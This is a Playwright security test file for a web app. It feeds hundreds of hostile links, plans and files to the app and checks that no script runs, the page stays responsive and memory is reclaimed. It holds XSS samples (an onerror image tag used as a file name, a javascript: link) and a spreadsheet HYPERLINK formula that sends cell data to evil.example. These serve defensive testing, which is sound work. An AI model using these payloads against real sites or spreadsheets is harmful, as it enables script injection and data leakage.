// Hostile input through the page itself: thousands of changed links, plans and files. No script runs, nothing panics,
// nothing holds the page up, and memory comes back.
//
// `cargo xtask hostile` feeds 10,000; here it is a few hundred.

import type { Browser, CDPSession, Page } from "@playwright/test";
import { input, type Input, PAYLOADS } from "./hostile";
import { drop, expect, incidentRows, open, openView, test, VIEWS } from "./page";
import { nineMinutes, planOf } from "./plans";
import { CATEGORIES, type Trace } from "./trace";

/** How many inputs, and how many of them one page gets before its memory is measured. */
const INPUTS = Number(process.env.HOSTILE_INPUTS ?? 240);
const FIRST = Number(process.env.HOSTILE_FIRST ?? 0);
const BATCH = 60;
/** The longest task of the main thread that an input may cause, in milliseconds. */
const LONGEST_TASK = 100;
/** What a batch may leave behind after its garbage is collected, in megabytes: undo keeps up to 60 documents. */
const MOST_HEAP_GROWTH = 16;
/** The most that the page's WebAssembly memory may hold, in megabytes. */
const MOST_WASM = 96;

interface Told {
  /** Milliseconds from the input to the page's answer; null when it gave none. */
  answered: number | null;
  /** What came of it: `opened`, `imported` or `refused`. */
  outcome: string;
  longest: number;
  faults: string[];
}

interface Tripwires {
  faults: string[];
  tasks: { start: number; end: number }[];
  memories: WebAssembly.Memory[];
  feed(input: Input, view: string): Promise<Told>;
}

declare global {
  interface Window {
    hostile: Tripwires;
    __pwned(what: unknown): void;
  }
}

/** Runs in the page, before anything of it. */
function tripwires(): void {
  const faults: string[] = [];
  const tasks: { start: number; end: number }[] = [];
  const memories: WebAssembly.Memory[] = [];
  window.__pwned = (what) => faults.push(`script ran: ${String(what)}`);
  for (const name of ["alert", "confirm", "prompt", "open"] as const) {
    Object.defineProperty(window, name, { value: () => faults.push(`${name} was called`) });
  }
  document.addEventListener("securitypolicyviolation", (event) => {
    faults.push(`the policy stopped ${event.violatedDirective} of ${event.blockedURI} ${event.sample}`);
  });
  new PerformanceObserver((list) => {
    for (const { startTime, duration } of list.getEntries()) tasks.push({ start: startTime, end: startTime + duration });
  }).observe({ entryTypes: ["longtask"] });
  const kept = (made: any) => {
    const memory = (made.instance ?? made).exports?.memory;
    if (memory) memories.push(memory);
    return made;
  };
  for (const name of ["instantiate", "instantiateStreaming"] as const) {
    const make = WebAssembly[name].bind(WebAssembly) as (...args: any[]) => Promise<any>;
    (WebAssembly as any)[name] = (...args: any[]) => make(...args).then(kept);
  }

  const frame = () => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)));
  const one = (selector: string) => document.querySelector<HTMLElement>(selector);
  const press = (selector: string) => one(selector)?.click();

  /** Elements and attributes that could run something or lead to it. */
  function unsafe(): string[] {
    const found: string[] = [];
    const schemes = /^(https?:|mailto:|blob:|#|\.|$)/;
    for (const element of document.querySelectorAll("main *, dialog *")) {
      if (["SCRIPT", "IFRAME", "OBJECT", "EMBED", "BASE", "META", "LINK", "STYLE"].includes(element.tagName)) {
        found.push(`<${element.tagName}> in the page`);
      }
      for (const { name, value } of element.attributes) {
        const leads = ["href", "src", "action", "formaction", "srcdoc", "xlink:href", "poster", "data"].includes(name);
        if (name.startsWith("on") || (leads && !schemes.test(value))) found.push(`${name}="${value.slice(0, 80)}"`);
      }
    }
    if (!document.getElementById("broken")?.hidden) found.push("the recovery screen is shown");
    return found;
  }

  async function feed(input: Input, view: string): Promise<Told> {
    press("[data-testid=notice] button[aria-label=Dismiss]");
    await frame();
    const start = performance.now();
    const before = one("[data-testid=toast]");
    const dialog = () => one("dialog[data-testid=import][open]:not([aria-busy=true])");
    const isAnswered = () => {
      if (input.kind === "link") return !location.hash.includes("p=");
      const toast = one("[data-testid=toast]");
      return Boolean(dialog() ?? one("[data-testid=notice]") ?? (toast !== before ? toast : null));
    };
    if (input.kind === "link") {
      location.hash = input.text;
    } else {
      const bytes = Uint8Array.from(atob(input.text), (letter) => letter.charCodeAt(0));
      const transfer = new DataTransfer();
      transfer.items.add(new File([bytes], `${"<img src=x onerror=__pwned('name')>"}.${input.kind}`));
      one("main")?.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
    }
    await frame();
    // Reading is the worker's; what counts for the page is that it goes on meanwhile.
    const deadline = performance.now() + 10_000;
    while (!isAnswered() && performance.now() < deadline) await frame();
    const answered = isAnswered() ? performance.now() - start : null;
    const refused = one("[data-testid=notice]") !== null || dialog()?.querySelector("[role=alert]") != null;
    const here = unsafe();
    let outcome = refused ? "refused" : "opened";
    // What can be taken over is.
    const shown = one("dialog[open]");
    const take = shown?.querySelector<HTMLButtonElement>("button.primary:not([disabled])");
    if (shown && take) {
      take.click();
      if (input.kind === "file") outcome = "imported";
    } else if (shown) {
      shown.querySelector<HTMLElement>(".dialog-foot button")?.click();
    }
    await frame();
    if (outcome !== "refused") {
      // What was taken over is drawn.
      location.hash = `#/${view}`;
      await frame();
      await frame();
      here.push(...unsafe());
    }
    const end = performance.now();
    const during = tasks.filter((task) => task.start >= start - 1 && task.start <= end);
    const longest = Math.max(0, ...during.map((task) => task.end - task.start));
    return { answered, outcome, longest, faults: [...faults.splice(0), ...here] };
  }
  window.hostile = { faults, tasks, memories, feed };
}

const view = (number: number): string => VIEWS[number % VIEWS.length]!;

/** A page that has drawn every view once, so that what is measured is the input and not a first visit. */
async function warm(page: Page): Promise<void> {
  await page.addInitScript(tripwires);
  await open(page, { plan: planOf([nineMinutes]) });
  for (const view of VIEWS) {
    await page.evaluate((view) => (location.hash = `#/${view}`), view);
    await expect(page.locator(`#tab-${view}`)).toHaveAttribute("aria-selected", "true");
  }
  await drop(page, "log.csv", "start,end\n2026-03-01 10:00,2026-03-01 10:10\n");
  await page.getByTestId("import").getByRole("button", { name: "Import 1 row" }).click();
  await expect(page.getByTestId("toast")).toContainText("imported");
}

/** Processor time of the main thread so far, in milliseconds. */
async function worked(session: CDPSession): Promise<number> {
  const { metrics } = await session.send("Performance.getMetrics");
  return (metrics.find(({ name }) => name === "ThreadTime")?.value ?? NaN) * 1_000;
}

/** Megabytes after the garbage is collected: of script, and of the page's WebAssembly. */
async function memory(page: Page, session: CDPSession): Promise<{ heap: number; wasm: number }> {
  await session.send("HeapProfiler.collectGarbage");
  const { metrics } = await session.send("Performance.getMetrics");
  const used = metrics.find(({ name }) => name === "JSHeapUsedSize")?.value ?? NaN;
  const wasm = await page.evaluate(() => {
    const of = window.hostile.memories.map((memory) => memory.buffer.byteLength);
    return Math.max(0, ...of);
  });
  return { heap: used / 1e6, wasm: wasm / 1e6 };
}

/**
 * The processor time of the longest task that an input causes on the main thread, on a page where nothing else goes on: the
 * least of three tries, for a machine that does something else is no fault of the page.
 */
async function longestAlone(browser: Browser, page: Page, number: number): Promise<number> {
  let least = Infinity;
  for (let tries = 0; tries < 3 && least > LONGEST_TASK; tries += 1) {
    await browser.startTracing(page, { categories: [...CATEGORIES, "toplevel"] });
    await page.evaluate(([input, view]) => window.hostile.feed(input, view), [input(number), view(number)] as const);
    const { traceEvents } = JSON.parse((await browser.stopTracing()).toString()) as Trace;
    const main = traceEvents.find((event) => event.name === "FireAnimationFrame");
    const tasks = traceEvents.filter(
      (event) => event.ph === "X" && event.pid === main?.pid && event.tid === main.tid && event.name.endsWith("RunTask"),
    );
    least = Math.min(least, Math.max(0, ...tasks.map(({ dur = 0, tdur = dur }) => tdur / 1_000)));
  }
  return least;
}

for (let from = FIRST; from < FIRST + INPUTS; from += BATCH) {
  const until = Math.min(from + BATCH, FIRST + INPUTS);
  test(`changed links, plans and files ${from} to ${until - 1} run nothing and hold nothing up`, async ({ page, browser, baseURL }) => {
    test.setTimeout(300_000);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await warm(page);
    const session = await page.context().newCDPSession(page);
    await session.send("Performance.enable");
    const before = await memory(page, session);
    const faults: string[] = [];
    const slow: number[] = [];
    const outcomes: Record<string, number> = {};
    let slowest = 0;
    for (let number = from; number < until; number += 1) {
      const given = input(number);
      const begun = await worked(session);
      const told = await page.evaluate(([given, view]) => window.hostile.feed(given, view), [given, view(number)] as const);
      const cost = (await worked(session)) - begun;
      const name = `input ${number} (${given.kind} from ${given.from})`;
      faults.push(...told.faults.map((fault) => `${name}: ${fault}`));
      if (told.answered === null) faults.push(`${name}: no answer`);
      // A task that took so long and worked less was waiting for the processor.
      if (told.longest > LONGEST_TASK && !(cost <= LONGEST_TASK)) slow.push(number);
      slowest = Math.max(slowest, told.answered ?? Infinity);
      const outcome = `${given.kind} ${told.outcome}`;
      outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
    }
    const after = await memory(page, session);
    let longest = slow.length === 0 ? LONGEST_TASK : 0;
    if (slow.length > 0) {
      const context = await browser.newContext({ baseURL });
      const other = await context.newPage();
      await warm(other);
      for (const number of slow) {
        const alone = await longestAlone(browser, other, number);
        longest = Math.max(longest, alone);
        if (alone > LONGEST_TASK) faults.push(`input ${number}: a task of ${alone.toFixed(0)} ms`);
      }
      await context.close();
    }
    const figures = { from, until, outcomes, slowest, repeated: slow.length, longest, heap: [before.heap, after.heap], wasm: after.wasm };
    test.info().annotations.push({ type: "hostile", description: JSON.stringify(figures) });
    expect(faults).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(after.heap - before.heap).toBeLessThan(MOST_HEAP_GROWTH);
    expect(after.wasm).toBeLessThan(MOST_WASM);
  });
}

test("the tripwires tell: an element that came out of a text, a link that runs, a script that ran, a panic's screen", async ({ page }) => {
  await page.addInitScript(tripwires);
  await open(page, { plan: planOf([nineMinutes]) });
  await page.evaluate(() => {
    const link = document.createElement("a");
    link.href = "javascript:1";
    document.querySelector("main")?.append(document.createElement("object"), link);
    window.__pwned("by hand");
    document.getElementById("broken")!.hidden = false;
  });
  const told = await page.evaluate(() => window.hostile.feed({ kind: "link", from: "", text: "#/" }, "alerts"));
  const expected = ["<OBJECT> in the page", 'href="javascript:1"', "script ran: by hand", "the recovery screen is shown"];
  expect(told.faults).toEqual(expect.arrayContaining(expected));
});

test("a plan of nothing but markup is text in every view and in every export of a chart", async ({ page }) => {
  await page.addInitScript(tripwires);
  const [script, image, svg, attribute] = PAYLOADS;
  const incident = { ...nineMinutes, id: svg, title: script, category: attribute };
  const plan: any = planOf([incident]);
  plan.name = image;
  plan.services[0].name = image;
  await openView(page, "alerts", { plan });
  for (const view of VIEWS) {
    const told = await page.evaluate((view) => window.hostile.feed({ kind: "link", from: "", text: "#/" }, view), view);
    expect(told.faults).toEqual([]);
  }
  await expect(page.getByLabel("Service name")).toHaveValue(image);
});

test("a table of a thousand columns is drawn as far as it can be looked at, and read as a whole", async ({ page }) => {
  await open(page, { plan: planOf([]) });
  const row = (start: string, end: string) => [...Array.from({ length: 998 }, (_, column) => `c${column}`), start, end].join(",");
  const rows = Array.from({ length: 150 }, (_, index) => row(`2026-03-0${1 + (index % 9)} 10:${10 + (index % 50)}`, "1m"));
  await drop(page, "wide.csv", [row("start", "end"), ...rows].join("\n"));
  const dialog = page.getByTestId("import");
  await expect(dialog).toContainText("150 rows");
  await expect(dialog).toContainText("and 960 more columns");
  expect(await dialog.locator("tbody td").count()).toBeLessThan(4_000);
  // What holds something is drawn, wherever it stands.
  await expect(dialog.getByLabel("Column start is")).toBeVisible();
  await dialog.getByRole("button", { name: /^Import \d+ rows$/ }).click();
  await expect(page.getByTestId("toast")).toContainText("imported");
});

test("rows copied for a spreadsheet are texts there, and come back as they were", async ({ page }) => {
  const formula = "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")";
  await open(page, { plan: planOf([{ ...nineMinutes, title: formula }]) });
  await page.getByRole("checkbox", { name: /INC-1/ }).first().check();
  const copied = await incidentRows(page).first().evaluate((row) => {
    const data = new DataTransfer();
    const cell = row.querySelector("[data-col]") ?? row;
    cell.dispatchEvent(new ClipboardEvent("copy", { clipboardData: data, bubbles: true, cancelable: true }));
    return data.getData("text/plain");
  });
  expect(copied.split("\n")[1]?.split("\t").at(-1)).toBe(`'${formula}`);
});
